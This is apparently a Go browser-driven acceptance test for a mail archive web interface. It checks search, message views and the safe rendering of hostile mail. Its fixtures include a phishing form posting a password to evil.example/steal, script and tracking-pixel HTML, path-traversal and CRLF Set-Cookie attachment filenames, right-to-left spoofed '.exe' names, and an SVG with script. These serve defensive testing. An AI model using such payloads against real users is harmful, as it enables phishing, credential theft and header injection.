package acceptance_test

import (
	"context"
	"encoding/base64"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/mailgrant/mailgrant/internal/fetch"
	"github.com/mailgrant/mailgrant/internal/mailbox"
	"github.com/mailgrant/mailgrant/internal/testbed"
	"github.com/mailgrant/mailgrant/sandbox/directory"
)

// connected adds the mailbox of the story and lets its owner authorise it.
func (s *site) connected(t *testing.T, chromium *testbed.Browser) mailbox.Mailbox {
	t.Helper()
	desk := s.addMailbox(t, directory.StoryDesk, "")
	owner := s.visit(t, chromium)
	owner.authorize(s.link(t, desk.Address), directory.StoryDesk)
	owner.heading(desk.Address + " is connected")
	return desk
}

// arrives delivers a message and gives it as it is kept, found by its folder's
// newest.
func (s *site) arrives(t *testing.T, v *visitor, raw string) fetch.Message {
	t.Helper()
	newest := func() string {
		page, err := s.Store.Messages(t.Context(), fetch.Filter{Limit: 1, Brief: true})
		must(t, err)
		if len(page.Messages) == 0 {
			return ""
		}
		return page.Messages[0].ID
	}
	before := newest()
	_, err := s.box.Exchange().Deliver(directory.StoryDesk, []byte(raw))
	must(t, err)
	v.await("the message is kept", func() bool { return newest() != before })
	m, err := s.Store.Message(t.Context(), newest())
	must(t, err)
	return m
}

// letter is a message of these header fields and this body.
func letter(body string, fields ...string) string {
	return strings.Join(fields, "\r\n") + "\r\n\r\n" + body
}

const hostileHTML = `<!doctype html><meta http-equiv="refresh" content="0;url=https://evil.example/refreshed">
<script>parent.document.title="taken over"; document.body.textContent="the script ran"</script>
<h1 onclick="alert(1)">Special offer</h1><img src="https://evil.example/pixel.gif" alt="a picture from elsewhere"><img alt="inside" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==">
<form action="https://evil.example/steal"><input name="password" aria-label="password"><button>Go</button></form>
<a href="https://evil.example/" target="_top">Click here</a><link rel="stylesheet" href="https://evil.example/a.css"><link rel="preconnect" href="https://evil.example"><iframe src="https://evil.example/frame"></iframe>`

// tortures are messages as strangers send them.
func tortures() map[string]string {
	from, to := "From: Adele Vance <AdeleV@vbcpn.example>", "To: "+directory.StoryDesk
	many := make([]string, 10_000)
	for i := range many {
		many[i] = fmt.Sprintf("person%d@example.org", i)
	}
	attached := func(names ...string) string {
		var b strings.Builder
		for _, n := range names {
			b.WriteString("--x\r\nContent-Type: text/html\r\nContent-Disposition: attachment; " + n + "\r\n\r\n<script>alert(1)</script>\r\n")
		}
		return b.String() + "--x--\r\n"
	}
	return map[string]string{
		"broken charset":          letter("gr\xfc\xdfe \xff\xfe and =?utf-8?B?broken", from, to, "Subject: =?nonsense-1?Q?gr=FC=DFe?= \xff\xfe", "Content-Type: text/plain; charset=nonsense-1"),
		"10,000 recipients":       letter("Hello all.", from, "To: "+strings.Join(many, ",\r\n "), "Subject: To everybody"),
		"a subject without space": letter("x", from, to, "Subject: "+strings.Repeat("Donaudampfschifffahrt", 10)),
		"right to left":           letter("שלום עולם, זה טקסט מימין לשמאל.\r\nمرحبا بالعالم", "From: =?utf-8?B?"+base64.StdEncoding.EncodeToString([]byte("שירה לוי"))+"?= <shira@example.org>", to, "Subject: =?utf-8?B?"+base64.StdEncoding.EncodeToString([]byte("שאלה על המדפסת 42 (דחוף)"))+"?=", "Content-Type: text/plain; charset=utf-8"),
		"turned around":           letter("x", "From: =?utf-8?B?"+base64.StdEncoding.EncodeToString([]byte("a\u202Egro.elpmaxe@knab"))+"?= <b@example.net>", to, "Subject: =?utf-8?B?"+base64.StdEncoding.EncodeToString([]byte("invoice\u202Efdp.exe\x1b[2J\x00"))+"?="),
		"control characters":      letter("a\x00b\x07c\x1b[31mred\r\x7f", from, to, "Subject: bell\x07 and escape\x1b[2J"),
		"hostile HTML":            letter(hostileHTML, from, to, "Subject: <script>alert('subject')</script>", "Content-Type: text/html; charset=utf-8"),
		"hostile names": letter(attached(`filename="../../x.html"`, "filename*=utf-8''line%0D%0ASet-Cookie%3A%20x.txt", "filename*=utf-8''invoice%E2%80%AEfdp.exe", `filename="`+strings.Repeat("n", 300)+`.txt"`),
			from, to, "Subject: Files", "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=x"),
		"nothing at all": "\r\n",
		"only a header":  "Subject: only a header\r\n",
		"30 MB": letter("--x\r\nContent-Type: text/plain\r\n\r\nSee the file.\r\n--x\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=large.bin\r\n\r\n"+
			strings.Repeat(strings.Repeat("QUJD", 19)+"\r\n", 30<<20/78)+"--x--\r\n", from, to, "Subject: A large one", "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=x"),
	}
}

// messagePages are the list of messages and every way to look at one.
func messagePages(t *testing.T, chromium *testbed.Browser) {
	s := openSite(t, 0)
	v := s.visit(t, chromium)
	v.becomeOperator()
	t.Run("an empty list teaches", func(t *testing.T) {
		v.t = t
		v.open(s.base + "/messages")
		v.says(v.heading("Messages"), "No message yet", "add a mailbox")
		v.clean()
	})
	desk := s.connected(t, chromium)
	plain := s.arrives(t, v, letter("Good morning,\r\n\r\nit is out of paper.\r\n", "From: Adele Vance <AdeleV@vbcpn.example>", "To: "+directory.StoryDesk,
		"Subject: The printer", "Message-ID: <two@example.org>", "In-Reply-To: <one@example.org>", "Date: Tue, 24 Nov 2026 09:00:00 +0000"))
	s.arrives(t, v, letter("x", "From: Bert <bert@example.org>", "To: "+directory.StoryDesk, "Subject: The lift"))
	t.Run("the list leads to a message", func(t *testing.T) {
		v.t = t
		v.open(s.base + "/messages")
		v.says(v.heading("Messages"), "The printer", "Adele Vance", "The lift", desk.Address, "bytes")
		v.fill("#text", "PRINT")
		v.keys(enter)
		v.await("one is found", func() bool { return v.evaluate(`String(document.querySelectorAll("tbody tr").length)`) == "1" })
		v.clean()
		v.tabTo("td a")
		v.outlined()
		v.keys(enter)
		text := v.heading("The printer")
		v.says(text, "it is out of paper", "Adele Vance", "<AdeleV@vbcpn.example>", "two@example.org", "one@example.org", "INBOX", "stays there as it was", "no webhook", "retention ends")
		v.clean()
		v.open(s.base + "/messages/" + plain.ID + "?show=header")
		v.says(v.heading("The printer"), "In-Reply-To: <one@example.org>", "Subject: The printer")
		v.clean()
	})
	t.Run("what is wrong with a search stands beside its field, and what was typed stays", func(t *testing.T) {
		v.t = t
		v.open(s.base + "/messages?mailbox=nobody@example.org&since=yesterday&text=printer")
		v.awaitText("#mailbox-help", "There is no mailbox nobody@example.org")
		v.says(v.evaluate(`document.querySelector("#since-help").innerText`), "is not a time", "in UTC")
		if got := v.evaluate(`document.querySelector("#mailbox").value + " " + document.querySelector("#text").value`); got != "nobody@example.org printer" {
			t.Errorf("the fields hold %q", got)
		}
		v.clean()
		v.open(s.base + "/messages?text=nothing+like+it")
		v.says(v.heading("Messages"), "Nothing is like this", "Show everything")
		v.clean()
	})
	t.Run("whatever strangers send, its pages hold", func(t *testing.T) { v.t = t; torturePages(t, s, v) })
	t.Run("without scripts", func(t *testing.T) {
		u := s.visit(t, chromium)
		u.open(s.base + "/login/local")
		u.fillSignIn(operatorName, operatorPassword)
		u.heading("Mailboxes")
		u.withoutScripts()
		u.open(s.base + "/messages?text=printer")
		u.click("td a")
		u.says(u.heading("The printer"), "it is out of paper")
		u.clean()
	})
}

// torturePages looks at each message in every way, and takes its files.
func torturePages(t *testing.T, s *site, v *visitor) {
	for name, raw := range tortures() {
		t.Run(name, func(t *testing.T) {
			v.t = t
			m := s.arrives(t, v, raw)
			for _, show := range []string{"text", "source", "header"} {
				v.open(s.base + "/messages/" + m.ID + "?show=" + show)
				v.await("it is there", func() bool {
					h, err := v.try(`document.readyState === "complete" ? document.querySelector("main h1").innerText : ""`)
					return err == nil && h != ""
				})
				if got := v.evaluate(`document.title`); strings.Contains(got, "taken over") {
					t.Errorf("%s: a script of the message ran", show)
				}
				if wide := v.evaluate(`String(document.documentElement.scrollWidth > innerWidth)`); wide == "true" {
					t.Errorf("%s: the page is wider than the window", show)
				}
			}
			v.clean()
			for _, r := range v.evaluate(`document.body.innerText`) {
				if r < 0x20 && r != '\n' && r != '\t' || r >= 0x202A && r <= 0x202E {
					t.Errorf("the page shows %U", r)
				}
			}
			if got := v.fetched(s.base + "/messages/" + m.ID + "/raw"); int64(got) != m.Size || got < len(raw) {
				t.Errorf("the download has %d bytes, want %d", got, m.Size)
			}
			for _, part := range m.Parsed.Parts {
				header := v.promised(fmt.Sprintf(`fetch("/messages/%s/attachments/%d").then((r) => [r.status, r.headers.get("Content-Disposition"), r.headers.get("X-Content-Type-Options"), r.headers.get("Content-Security-Policy")].join(" | "))`, m.ID, part.Index))
				if !strings.HasPrefix(header, "200 | attachment; filename=") || !strings.Contains(header, "nosniff | sandbox; default-src 'none'") || strings.Contains(header, "..") || strings.Contains(header, "/x.html") {
					t.Errorf("attachment %q: %s", part.Filename, header)
				}
			}
		})
	}
	v.t = t
	t.Run("HTML is shown with the message's own pictures", func(t *testing.T) { v.t = t; ownPictures(t, s, v) })
	v.t = t
	t.Run("HTML is shown, and can do nothing", func(t *testing.T) { harmless(t, s, v) })
}

// ownPictures opens HTML that names pictures by their Content-ID: those that are
// in the message are seen, and no other.
func ownPictures(t *testing.T, s *site, v *visitor) {
	const gif = "R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="
	part := func(id, kind, content string) string {
		return "--x\r\nContent-Type: " + kind + "\r\nContent-ID: <" + id + ">\r\nContent-Disposition: inline\r\nContent-Transfer-Encoding: base64\r\n\r\n" + content + "\r\n"
	}
	svg := base64.StdEncoding.EncodeToString([]byte(`<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><script>alert(1)</script></svg>`))
	m := s.arrives(t, v, letter("--x\r\nContent-Type: text/html\r\n\r\n"+
		`<p>Pictures</p><img alt="a" src="cid:logo@x.example"><img alt="b" src="CID:sent%2Bas%40x"><img alt="c" src="cid:nowhere@x.example"><img alt="d" src="cid:page@x.example"><img alt="e" src="cid:drawn@x.example">`+
		"\r\n"+part("logo@x.example", "image/gif", gif)+part("sent+as@x", "application/octet-stream", gif)+part("page@x.example", "image/png", base64.StdEncoding.EncodeToString([]byte("<html>")))+
		part("drawn@x.example", "image/svg+xml", svg)+part("unnamed@x.example", "image/gif", gif)+"--x--\r\n",
		"From: Adele Vance <AdeleV@vbcpn.example>", "To: "+directory.StoryDesk, "Subject: Pictures", `Content-Type: multipart/related; boundary=x`))
	seen := `[...document.images].map((i) => i.alt + i.naturalWidth).join(" ")`
	u := s.visit(t, v.Browser) // what the browser says of the refused pictures is another window's
	u.open(s.base + "/login/local")
	u.fillSignIn(operatorName, operatorPassword)
	u.heading("Mailboxes")
	u.open(s.base + "/messages/" + m.ID + "/html")
	u.awaitText("body", "Pictures")
	u.await("the message's own pictures, and no other", func() bool {
		got, err := u.try(seen)
		return err == nil && got == "a1 b1 c0 d0 e0"
	})
	if got := u.evaluate(`String(document.documentElement.outerHTML.match(/data:image/g).length)`); got != "2" {
		t.Errorf("%s pictures were put in", got)
	}
	u.open(s.base + "/messages/" + m.ID + "?show=html")
	u.says(u.heading("Pictures"), "its own pictures are shown")
}

// harmless opens HTML that wants to do much: in its frame, and alone, where the
// browser tells what it refused.
func harmless(t *testing.T, s *site, v *visitor) {
	var called atomic.Int64
	evil := httptest.NewUnstartedServer(http.NotFoundHandler())
	// A connection tells its owner enough, without any request in it.
	evil.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			called.Add(1)
		}
	}
	evil.Start()
	t.Cleanup(evil.Close)
	u := s.visit(t, v.Browser) // what the browser says of the refused pieces is another window's
	u.open(s.base + "/login/local")
	u.fillSignIn(operatorName, operatorPassword)
	u.heading("Mailboxes")
	m := s.arrives(t, u, strings.ReplaceAll(tortures()["hostile HTML"], "https://evil.example", evil.URL))
	u.open(s.base + "/messages/" + m.ID + "?show=html")
	u.heading("<script>alert('subject')</script>")
	u.await("the frame has its page", func() bool {
		n, err := u.try(`String(performance.getEntriesByType("resource").filter((e) => e.name.endsWith("/html")).length)`)
		return err == nil && n == "1"
	})
	if got := u.evaluate(`document.title + String(document.querySelector("iframe").contentDocument)`); strings.Contains(got, "taken over") || !strings.HasSuffix(got, "null") {
		t.Errorf("the frame is no other site's: %s", got)
	}
	u.open(s.base + "/messages/" + m.ID + "/html")
	u.awaitText("body", "Special offer")
	u.await("the browser says what it refused", func() bool {
		refused := strings.Join(u.Problems(), "\n")
		return strings.Contains(refused, "pixel.gif") && strings.Contains(strings.ToLower(refused), "blocked script execution")
	})
	if got := u.evaluate(`document.body.innerText`); strings.Contains(got, "the script ran") {
		t.Error("a script of the message ran")
	}
	if n := called.Load(); n != 0 {
		t.Errorf("%d calls of what is elsewhere", n)
	}
}

// fetched counts the bytes behind an address.
func (v *visitor) fetched(address string) int {
	v.t.Helper()
	var n int
	if _, err := fmt.Sscan(v.promised(fmt.Sprintf(`fetch(%q).then((r) => r.arrayBuffer()).then((b) => String(b.byteLength))`, address)), &n); err != nil {
		v.t.Fatal(err)
	}
	return n
}

// promised gives the text that a promise is kept with.
func (v *visitor) promised(expression string) string {
	v.t.Helper()
	ctx, cancel := context.WithTimeout(v.Context(), waitLimit)
	defer cancel()
	got, err := chromedp.Run(ctx, chromedp.Evaluate[string](expression, chromedp.EvalAwaitPromise))
	if err != nil {
		v.t.Fatalf("evaluate %s: %v", expression, err)
	}
	return got
}
